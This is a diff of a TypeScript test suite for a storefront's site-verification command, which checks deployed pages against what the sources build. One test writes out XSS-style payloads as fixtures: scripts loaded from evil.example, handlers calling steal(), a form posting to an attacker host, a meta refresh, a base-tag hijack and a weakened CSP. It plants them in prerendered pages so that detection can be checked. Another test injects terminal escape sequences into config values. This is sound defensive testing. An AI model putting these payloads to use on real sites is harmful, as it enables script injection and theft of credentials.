@@ -8,37 +8,45 @@ import * as assert from 'uvu/assert'
 import { brandConfig } from '../../.ci/build/brand.mjs'
 import { configureSite } from '../../.ci/build/configure.mjs'
 import { siteInFolder, siteOnWeb } from '../../.ci/build/other-site.mjs'
+import { prerenderSite } from '../../.ci/build/prerender.mjs'
 import { serveSite } from '../../.ci/build/serve.mjs'
 import { currentSite } from '../../.ci/build/site.mjs'
 import { siteIn } from '../../.ci/build/sums.mjs'
 import { compareSites, run } from '../../.ci/build/verify.mjs'
+import { openSandbox } from '../kit/shop.ts'
+import { tinyWorld } from '../sandbox/kit/tiny-world.ts'
 import { siteFolder } from './site-folder.ts'
 
-const verify = suite<{ built: ReadonlyMap<string, Uint8Array>; copy: () => string }>('whether a site is what these sources build')
+const verify = suite<{ built: ReadonlyMap<string, Uint8Array>; ahead: string; copy: (site?: string) => string }>('whether a site is what these sources build')
 
 const SAME = { changed: [], missing: [], extra: [] }
 const append = (folder: string, name: string): void => fs.appendFileSync(path.join(folder, name), ' ')
 
 /** What the command says of a site, and its exit code. */
 async function told(...args: readonly string[]): Promise<{ readonly code: number; readonly text: string }> {
-  const { log, error } = console
+  const { log, error, warn } = console
   const lines: string[] = []
-  console.log = console.error = (line: string) => { lines.push(line) }
+  console.log = console.error = console.warn = (line: string) => { lines.push(line) }
   try {
     return { code: await run(args), text: lines.join('\n') }
   } finally {
-    Object.assign(console, { log, error })
+    Object.assign(console, { log, error, warn })
   }
 }
 
 verify.before(async context => {
   const site = await currentSite(await brandConfig())
   context.built = siteIn(site)
-  context.copy = () => {
-    const folder = path.join(siteFolder(), 'site')
-    fs.cpSync(site, folder, { recursive: true })
+  const copies = siteFolder()
+  context.copy = (from = site) => {
+    const folder = path.join(fs.mkdtempSync(path.join(copies, 'of-')), 'site')
+    fs.cpSync(from, folder, { recursive: true })
     return folder
   }
+  context.ahead = context.copy()
+  const sandbox = await openSandbox({ world: { ...tinyWorld, whiteLabel: 'caplya' } })
+  await prerenderSite(context.ahead, { api: sandbox.url, site: 'https://shop.example' })
+  await sandbox.close()
 })
 
 verify('a folder is what was built, and then each file is named that has changed, is missing or has come besides', async ({ built, copy }) => {
@@ -51,14 +59,66 @@ verify('a folder is what was built, and then each file is named that has changed
   assert.equal(await compareSites(built, siteInFolder(folder)), { changed: ['brands/caplya/logo.svg', 'offline-worker.js'], missing: ['licences.txt'], extra: ['assets/counter.js'] })
 })
 
-verify('[MENU-18] pages that were written ahead are the API\'s words and no part of a build; what else lies beside them is named', async ({ built, copy }) => {
-  const folder = copy()
-  fs.mkdirSync(path.join(folder, 'menus'))
-  for (const name of ['menus/7.html', 'robots.txt', 'more.html', 'assets/counter.js']) append(folder, name)
-  fs.writeFileSync(path.join(folder, 'prerendered.json'), JSON.stringify({ files: ['menus/7.html', 'robots.txt', 'assets/counter.js'] }))
-  assert.equal(await compareSites(built, siteInFolder(folder)), { ...SAME, extra: ['assets/counter.js', 'more.html'] }, 'no list makes a script of it')
+/** The pages that were written ahead for dishes. */
+const dishesIn = (folder: string): readonly string[] => [...siteIn(folder).keys()].filter(name => /^menus\/\d+\/positions\/\d+\.html$/.test(name)).sort()
+
+/** Also lists what nobody has written ahead. */
+function lists(folder: string, ...names: readonly string[]): void {
+  const file = path.join(folder, 'prerendered.json')
+  fs.writeFileSync(file, JSON.stringify({ files: [...JSON.parse(fs.readFileSync(file, 'utf8')).files, ...names] }))
+}
+
+verify('[MENU-18] pages that were written ahead are the API\'s words in the page of the build; what else lies beside them is named, whatever the list says', async ({ built, ahead, copy }) => {
+  const folder = copy(ahead)
+  const [dish = '', other = ''] = dishesIn(folder)
+  assert.equal(await compareSites(built, siteInFolder(folder)), SAME)
+  const { url, close } = await serveSite(folder)
+  assert.equal(await compareSites(built, siteOnWeb(url)), SAME, 'over the web too')
+  await close()
+  for (const name of ['auth.html', 'menus/7/more.html', 'assets/counter.js', 'more.html', 'undefined.html']) {
+    fs.mkdirSync(path.dirname(path.join(folder, name)), { recursive: true })
+    fs.copyFileSync(path.join(folder, other), path.join(folder, name))
+  }
+  lists(folder, 'auth.html', 'menus/7/more.html', 'assets/counter.js', '../index.html', 'menus/999.html', 'undefined.html')
+  append(folder, 'prerendered.js')
+  fs.rmSync(path.join(folder, dish))
+  const extra = ['assets/counter.js', 'auth.html', 'menus/7/more.html', 'more.html', 'undefined.html']
+  assert.equal(await compareSites(built, siteInFolder(folder)), { changed: ['prerendered.js'], missing: [dish, 'menus/999.html'].sort(), extra })
   fs.writeFileSync(path.join(folder, 'prerendered.json'), '<!doctype html>')
-  assert.equal((await compareSites(built, siteInFolder(folder))).extra, ['assets/counter.js', 'menus/7.html', 'more.html', 'prerendered.json', 'robots.txt'])
+  const { extra: all } = await compareSites(built, siteInFolder(folder))
+  for (const name of [other, 'prerendered.json', 'sitemap.xml', ...extra]) assert.ok(all.includes(name), name)
+})
+
+verify('[MENU-18, CFG-02] a page that was written ahead and has a script, a style, a policy or a way out of the shop that the build has not is named as changed', async ({ built, ahead, copy }) => {
+  const folder = copy(ahead)
+  const [dish = '', packed = ''] = dishesIn(folder)
+  const read = (name: string): string => fs.readFileSync(path.join(folder, name), 'utf8')
+  const planted = new Map<string, string>()
+  const image = '<img src="https://api.fox.example/1.jpg" alt="" width="1" height="1"'
+  for (const [before, after] of [
+    ['</main>', '<script src="https://evil.example/1.js"></script></main>'], ['</main>', '<SCRIPT>steal()</SCRIPT></main>'], ['</main>', '<scr<b>ipt>steal()</script></main>'],
+    ['</main>', `${image} onerror="steal()"></main>`], ['</main>', '<form action="https://evil.example"><input name="code"></form></main>'], ['</main>', '<a href="https://evil.example">1</a></main>'],
+    ['</main>', '<a href="//evil.example">1</a></main>'], ['</main>', '<a href="javascript:steal()">1</a></main>'], ['</main>', '<iframe src="https://evil.example"></iframe></main>'],
+    ['<main>', '<main style="display:none">'], ['<main>', '<main id="app">'], ['<div id="prerendered"', '<div id="prerendered" onclick="steal()"'], ['<div id="app"', '<p>1</p><div id="app"'],
+    ['<title>', '<meta http-equiv="refresh" content="0;url=https://evil.example"><title>'], ['<title>', '<base href="https://evil.example/"><title>'],
+    ['<title>', '<link rel="stylesheet" href="https://evil.example/1.css"><title>'], ['<title>', '<meta name="referrer" content="unsafe-url"><title>'], ['<title>', 'words<title>'],
+    ['<script type="application/ld+json">', '<script type="text/javascript">'], ['<script type="application/ld+json">', '<script type="application/ld+json" src="/1.js">'],
+    ["script-src 'self'", "script-src 'self' https://evil.example"], ['</head>', '<script>steal()</script></head>'], ['</html>', '</html><script>steal()</script>'],
+    ['"apiBase":"', '"apiBase":"https://evil.example/'],
+  ] as const) {
+    const name = `menus/7-${planted.size}.html`
+    assert.ok(read(dish).includes(before), before)
+    fs.writeFileSync(path.join(folder, name), read(dish).replace(before, () => after))
+    planted.set(name, after)
+  }
+  lists(folder, ...planted.keys())
+  fs.writeFileSync(path.join(folder, dish), read(dish).replace('<h1>', '<h1>Other words, '))
+  fs.writeFileSync(path.join(folder, `${packed}.br`), zlib.brotliCompressSync(read(packed).replace('</main>', '<script>steal()</script></main>')))
+  fs.writeFileSync(path.join(folder, 'sitemap.xml'), read('sitemap.xml').replace('<url>', '<script xmlns="http://www.w3.org/1999/xhtml">steal()</script><url>'))
+  const { changed, ...others } = await compareSites(built, siteInFolder(folder))
+  assert.equal(changed.flatMap(name => planted.get(name) ?? []).sort(), [...planted.values()].sort())
+  assert.equal(changed.filter(name => !planted.has(name)), [`${packed}.br`, 'sitemap.xml'])
+  assert.equal(others, { missing: [], extra: [] })
 })
 
 verify('a packed copy is what it says: packed otherwise it is the same, and with other words it is named, also where the build has none', async ({ built, copy }) => {
@@ -127,6 +187,34 @@ verify('a site that leads elsewhere is not followed, and one that has no end is 
   }
 })
 
+verify('what a server does not have is missing; a server that fails, or breaks off, says nothing of a file: the command ends with 2 and names both', async ({ built }) => {
+  const one = new Map([...built].filter(([name]) => name === 'licences.txt'))
+  let answer: (response: http.ServerResponse) => void = () => undefined
+  const site = http.createServer(({ url }, response) => (url === '/prerendered.json' || url === '/SHA256SUMS' ? void response.writeHead(404).end() : answer(response)))
+  await new Promise<void>(resolve => { site.listen(0, '127.0.0.1', resolve) })
+  const url = `http://127.0.0.1:${(site.address() as AddressInfo).port}`
+  for (const status of [404, 410]) {
+    answer = response => void response.writeHead(status).end()
+    assert.equal(await compareSites(one, siteOnWeb(url)), { ...SAME, missing: ['licences.txt'] })
+  }
+  answer = response => void response.writeHead(200, { 'Content-Encoding': 'gzip' }).end('not packed at all')
+  assert.equal(await compareSites(one, siteOnWeb(url)), { ...SAME, changed: ['licences.txt'] })
+  for (const status of [403, 429, 500, 503]) {
+    answer = response => void response.writeHead(status).end()
+    assert.match(await compareSites(one, siteOnWeb(url)).then(String, String), new RegExp(`${url}/licences\\.txt cannot be had: the answer is ${status}`))
+  }
+  answer = response => {
+    response.writeHead(200, { 'Content-Length': 1000 }).write('half')
+    setTimeout(() => response.destroy(), 20)
+  }
+  assert.match(await compareSites(one, siteOnWeb(url)).then(String, String), `${url}/licences.txt cannot be had: `)
+  const { code, text } = await told(url)
+  assert.is(code, 2)
+  assert.match(text, `${url}/ cannot be had: `)
+  site.closeAllConnections()
+  site.close()
+})
+
 verify('[CFG-02] the command builds with the configuration of the other’s page, tells what is configured otherwise, and ends with 0, or 1 when a file differs', async ({ copy }) => {
   const folder = copy()
   await configureSite(folder, { apiBase: 'https://api.fox.example', links: { support: 'https://fox.example/help' }, locales: ['ru'] })
@@ -146,14 +234,37 @@ verify('[CFG-02] the command builds with the configuration of the other’s page
 
 verify('the command ends with 2 and says why where there is nothing to compare', async () => {
   const folder = siteFolder()
+  const page = (block: string): string => {
+    const other = fs.mkdtempSync(path.join(folder, 'page-'))
+    fs.writeFileSync(path.join(other, 'index.html'), `<script type="application/json" id="storefront-config">${block}</script>`)
+    return other
+  }
+  const odd = path.join(folder, 'odd')
+  fs.mkdirSync(path.join(odd, 'index.html'), { recursive: true })
   for (const [where, why] of [
-    [[], /^Usage: npm run verify/], [['one', 'two'], /^Usage/], [[path.join(folder, 'none')], /none has no index\.html/], [[folder], /No brand undefined/],
-    [['http://127.0.0.1:1'], /cannot be had/], [['http://'], /is no address/],
+    [[], /^Usage: npm run verify/], [['one', 'two'], /^Usage/], [[path.join(folder, 'none')], /none has no index\.html/], [[folder], /No brand undefined/], [[odd], /has no index\.html/],
+    [['http://127.0.0.1:1'], /cannot be had/], [['http://'], /is no address/], [[page('null')], /configuration block/], [[page('{"brand":')], /configuration block/],
+    [['http://127.0.0.1:1/no/shop'], /^A shop .*npm run verify -- http:\/\/127\.0\.0\.1:1$/], [['http://127.0.0.1:1/?lang=en'], /^A shop /],
   ] as const) {
     const { code, text } = await told(...where)
     assert.is(code, 2, text)
     assert.match(text, why)
+    assert.not.match(text, /\n +at /)
   }
+})
+
+verify('what the page of another says is told without what a terminal would obey', async ({ copy }) => {
+  const folder = copy()
+  const file = path.join(folder, 'index.html')
+  const page = fs.readFileSync(file, 'utf8')
+  const says = (values: object): void => fs.writeFileSync(file, page.replace(/(id="storefront-config">)([^<]*)/, (_, open: string, text: string) => open + JSON.stringify({ ...JSON.parse(text), ...values })))
+  says({ maps: { gazetteer: '/\u001b[2J.bin' } })
+  const { code, text } = await told(folder)
+  assert.is(code, 2, text)
+  says({ '\u001b[2J\u009b1mshop\n\rOK': 1 })
+  const { text: more } = await told(folder)
+  assert.match(more, /^The configuration of the other site: .*shop OK is not a field/m)
+  assert.not.match(text + more, /[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/)
 })
 
 verify.run()
